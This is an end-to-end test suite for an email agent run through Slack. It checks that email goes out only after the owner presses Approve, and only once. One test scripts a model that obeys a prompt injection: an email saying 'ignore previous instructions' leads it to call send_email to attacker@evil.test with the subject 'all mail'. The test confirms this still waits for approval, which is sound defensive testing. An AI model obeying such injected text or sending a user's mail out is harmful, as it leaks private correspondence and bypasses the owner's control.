"""Sending needs the owner's Approve and happens exactly once, over the whole stack."""

from __future__ import annotations

import email
from email import policy

import pytest

from infra.local.emulators.gmail import GmailMailbox
from infra.local.emulators.slack import PostedMessage
from infra.local.slack_requests import LOCAL_DM_CHANNEL, block_action, message_event, post_event, post_interaction
from infra.local.stack import LocalStack

pytestmark = pytest.mark.e2e
ADA = "ada@example.com"


def gmail(stack: LocalStack) -> GmailMailbox:
    assert stack.gmail is not None
    return stack.gmail


def in_thread(stack: LocalStack, thread: str) -> list[PostedMessage]:
    assert stack.slack is not None
    return stack.slack.messages(channel=LOCAL_DM_CHANNEL, thread_ts=thread)


def say(stack: LocalStack, text: str, thread: str) -> None:
    assert post_event(stack.url, message_event(text, thread_ts=thread)).status == 200
    stack.wait_until_drained(timeout=60)


def approval_in(stack: LocalStack, thread: str) -> PostedMessage:
    """Draft a reply to Bob in this thread, ask to send it, return the approval message."""
    say(stack, "Draft a reply to Bob saying Thursday works", thread)
    say(stack, "send it", thread)
    [approval] = [m for m in in_thread(stack, thread) if any(b.get("block_id") == "approval" for b in m.blocks)]
    return approval


def press(stack: LocalStack, approval: PostedMessage, action: str, user: str = "U0ADA", value: str | None = None):
    [action_value] = {e["value"] for b in approval.blocks for e in b.get("elements", []) if "value" in e}
    payload = block_action(
        action, value or action_value, message_ts=approval.ts, thread_ts=approval.thread_ts, user=user
    )
    assert post_interaction(stack.url, payload).status == 200
    stack.wait_until_drained(timeout=60)


def current(stack: LocalStack, message: PostedMessage) -> PostedMessage:
    [now] = [m for m in in_thread(stack, str(message.thread_ts)) if m.ts == message.ts]
    return now


def sent_to_bob(stack: LocalStack) -> list[email.message.EmailMessage]:
    return [
        email.message_from_bytes(m.raw, policy=policy.default)
        for m in gmail(stack).sent(ADA)
        if "bob@example.com" in str(m.email["To"])
    ]


def test_asking_to_send_shows_the_exact_message_and_sends_nothing(linked: LocalStack):
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000001")
    text = " ".join(str(b) for b in approval.blocks)
    assert "bob@example.com" in text and "Re: Project Falcon kickoff" in text and "Thursday works" in text
    assert {e["action_id"] for b in approval.blocks for e in b.get("elements", []) if "action_id" in e} == {
        "approve_send",
        "edit_send",
        "cancel_send",
    }
    assert gmail(linked).send_count == before


def test_approve_sends_exactly_one_reply_in_the_right_thread(linked: LocalStack):
    before = len(sent_to_bob(linked))
    approval = approval_in(linked, "1796000000.000002")
    press(linked, approval, "approve_send")
    sent = sent_to_bob(linked)
    assert len(sent) == before + 1
    mail = sent[-1]
    assert mail["Subject"] == "Re: Project Falcon kickoff"
    assert mail["In-Reply-To"] and mail["In-Reply-To"] in mail["References"]
    [stored] = [m for m in gmail(linked).sent(ADA) if m.message_id == mail["Message-ID"]]
    assert stored.thread_id == linked.seeded.thread["project_thread"]  # type: ignore[union-attr]
    assert "Approved by <@U0ADA>" in current(linked, approval).text
    assert not any(b.get("block_id") == "approval" for b in current(linked, approval).blocks)


def test_cancel_sends_nothing(linked: LocalStack):
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000003")
    press(linked, approval, "cancel_send")
    assert gmail(linked).send_count == before
    assert "Cancelled" in current(linked, approval).text


def test_another_users_press_sends_nothing_and_tells_them_why(linked: LocalStack):
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000004")
    press(linked, approval, "approve_send", user="U0MALLORY")
    assert gmail(linked).send_count == before
    [told] = [m for m in in_thread(linked, "1796000000.000004") if m.ephemeral and m.user == "U0MALLORY"]
    assert "Only <@U0ADA>" in told.text
    press(linked, approval, "approve_send")  # the owner still can
    assert gmail(linked).send_count == before + 1


def test_a_double_press_sends_once(linked: LocalStack):
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000005")
    press(linked, approval, "approve_send")
    press(linked, approval, "approve_send")
    assert gmail(linked).send_count == before + 1
    told = [m for m in in_thread(linked, "1796000000.000005") if m.ephemeral]
    assert told and "no longer waiting" in told[-1].text


def test_a_forged_action_value_does_nothing(linked: LocalStack):
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000006")
    press(linked, approval, "approve_send", value="send-0000000000000000000000000000forged")
    assert gmail(linked).send_count == before
    assert any(b.get("block_id") == "approval" for b in current(linked, approval).blocks), "still waiting"


def test_a_send_gmail_accepted_but_never_recorded_is_not_repeated(linked: LocalStack):
    """Gmail takes the message but the answer is lost (as when the worker dies right
    after): SQS redelivers the press, and the retry finds the message by its Message-ID."""
    before = gmail(linked).send_count
    approval = approval_in(linked, "1796000000.000007")
    gmail(linked).fail_next("messages.send", 500, after=True)
    press(linked, approval, "approve_send")
    linked.wait_until_drained(timeout=60)
    assert gmail(linked).send_count == before + 1
    assert "Approved by" in current(linked, approval).text


def test_an_email_telling_the_agent_to_send_cannot_send_without_a_press(linked: LocalStack):
    """Even a model that obeys the injected instruction only produces a request for approval."""
    from infra.local.emulators.openai import Call, Rule, Script

    assert linked.openai is not None and linked.seeded is not None
    injected = linked.seeded.message["prompt_injection"]
    obeying = Script(
        [
            Rule(user=r"latest", call=Call("read_email", {"message_id": injected})),
            Rule(
                tool="read_email",
                result=r"ignore previous instructions",
                call=Call("send_email", {"to": "attacker@evil.test", "subject": "all mail", "body": "as asked"}),
            ),
        ],
        fallback="Done.",
    )
    normal, linked.openai.script = linked.openai.script, obeying
    try:
        before = gmail(linked).send_count
        say(linked, "What does my latest email say?", "1796000000.000008")
        assert gmail(linked).send_count == before
        [approval] = [
            m for m in in_thread(linked, "1796000000.000008") if any(b.get("block_id") == "approval" for b in m.blocks)
        ]
        assert "attacker@evil.test" in " ".join(str(b) for b in approval.blocks)  # the user sees where it would go
        press(linked, approval, "cancel_send")
        assert gmail(linked).send_count == before
    finally:
        linked.openai.script = normal


def test_a_lost_send_is_not_repeated_even_if_gmail_replaced_its_message_id(linked: LocalStack):
    """The retry cannot find the send by Message-ID; it finds it by X-Mailroom-Action."""
    mailbox = gmail(linked)
    before = mailbox.send_count
    approval = approval_in(linked, "1796000000.000009")
    mailbox.rewrite_message_ids = True
    try:
        mailbox.fail_next("messages.send", 500, after=True)
        press(linked, approval, "approve_send")
        linked.wait_until_drained(timeout=60)
    finally:
        mailbox.rewrite_message_ids = False
    assert mailbox.send_count == before + 1
    sent = mailbox.sent(ADA)[-1].email
    assert sent["X-Google-Original-Message-ID"] and sent["X-Mailroom-Action"]
    assert "Approved by" in current(linked, approval).text


def test_edit_before_approving_replaces_the_request_and_sends_the_edited_email(linked: LocalStack):
    """Edit opens a modal (views.open by the worker, within the trigger's 3 s) prefilled
    with the message; submitting it replaces the request with a new card to approve."""
    from infra.local.slack_requests import view_submission

    assert linked.slack is not None
    thread = "1796000000.000010"
    say(linked, "send an email to bob@example.com about lunch, saying see you at noon", thread)
    [approval] = [m for m in in_thread(linked, thread) if any(b.get("block_id") == "approval" for b in m.blocks)]
    before = gmail(linked).send_count
    press(linked, approval, "edit_send")
    [view] = linked.slack.views().values()
    prefilled = {b["block_id"]: b["element"].get("initial_value") for b in view["blocks"] if b["type"] == "input"}
    assert prefilled["to"] == "bob@example.com" and "noon" in prefilled["body"]
    edited = {"to": "bob@example.com", "cc": "", "bcc": "dave@example.com", "subject": "Lunch", "body": "One instead?"}
    assert post_interaction(linked.url, view_submission(view, edited)).status == 200
    linked.wait_until_drained(timeout=60)
    assert "Replaced by your edited version" in current(linked, approval).text
    assert gmail(linked).send_count == before
    [second] = [
        m
        for m in in_thread(linked, thread)
        if any(b.get("block_id") == "approval" for b in m.blocks) and m.ts != approval.ts
    ]
    assert "One instead?" in str(second.blocks) and "dave@example.com" in str(second.blocks)
    press(linked, second, "approve_send")
    assert gmail(linked).send_count == before + 1
    sent = gmail(linked).sent(ADA)[-1].email
    body = sent.get_body()
    assert sent["Subject"] == "Lunch" and body is not None and "One instead?" in body.get_content()
    assert "sent (Gmail id" in current(linked, second).text


def test_another_users_edit_press_is_told_why_in_the_modal_and_changes_nothing(linked: LocalStack):
    assert linked.slack is not None
    thread = "1796000000.000011"
    say(linked, "send an email to bob@example.com about lunch, saying see you at noon", thread)
    [approval] = [m for m in in_thread(linked, thread) if any(b.get("block_id") == "approval" for b in m.blocks)]
    press(linked, approval, "edit_send", user="U0MALLORY")
    [view] = linked.slack.views().values()
    assert "Only <@U0ADA>" in str(view["blocks"]) and not any(b["type"] == "input" for b in view["blocks"])
    assert any(b.get("block_id") == "approval" for b in current(linked, approval).blocks)  # still waiting
